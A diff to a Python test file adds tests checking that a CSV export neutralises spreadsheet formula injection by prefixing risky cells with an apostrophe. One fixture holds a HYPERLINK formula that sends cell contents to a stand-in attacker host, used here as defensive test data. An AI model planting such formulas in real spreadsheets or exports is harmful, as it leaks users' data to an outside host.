@@ -26,6 +26,7 @@ from backend.export import (
     correction_rows,
     export_corrections,
     parse_since,
+    spreadsheet_safe,
     summary,
 )
 from backend.feedback import entries_from_webhook, prediction_entry
@@ -216,6 +217,27 @@ def test_jsonl_and_csv_round_trip(store, tmp_path):
         assert json.loads(cells["final"]) == row["final"] and json.loads(cells["top_k"]) == row["top_k"]
         assert cells["predicted"] == ("" if row["predicted"] is None else json.dumps(row["predicted"]))
         assert cells["was_cancelled"] == json.dumps(row["was_cancelled"])
+
+
+@pytest.mark.parametrize("text", ["=1+2", "+1", "-2+3", "@SUM(A1)", "\tx", "\rx"])
+def test_csv_cells_that_could_start_a_formula_get_an_apostrophe(text):
+    assert spreadsheet_safe(text) == "'" + text
+    assert spreadsheet_safe("a=1") == "a=1" and spreadsheet_safe("") == ""
+
+
+def test_csv_neutralises_free_text_that_a_spreadsheet_would_run(store, tmp_path):
+    """OWASP's CSV injection: a cell starting with = + - @ (tab, CR) is written with a leading
+    apostrophe; numbers and JSON cells are left alone."""
+    formula = '=HYPERLINK("http://evil.example/?"&A1,"click")'
+    event = annotated(31, 9, [choices("animal", "Cat")], day=9,
+                      snapshot={"model_version": "@SUM(1+1)", "result": [choices("animal", "Dog", score=0.5)]})
+    event["task"]["data"]["image"] = formula
+    webhook_into(store, event)
+    export_corrections(store, tmp_path / "c.csv", "csv")
+    with (tmp_path / "c.csv").open(newline="") as fp:
+        cells = next(row for row in csv.DictReader(fp) if row["annotation"] == "31")
+    assert cells["image_ref"] == "'" + formula and cells["model_version"] == "'@SUM(1+1)"
+    assert cells["final"] == '["Cat"]' and cells["task"] == "9" and cells["lead_time"] == "4.2"
 
 
 def test_parquet_round_trip_with_labels_as_paths(store, tmp_path):
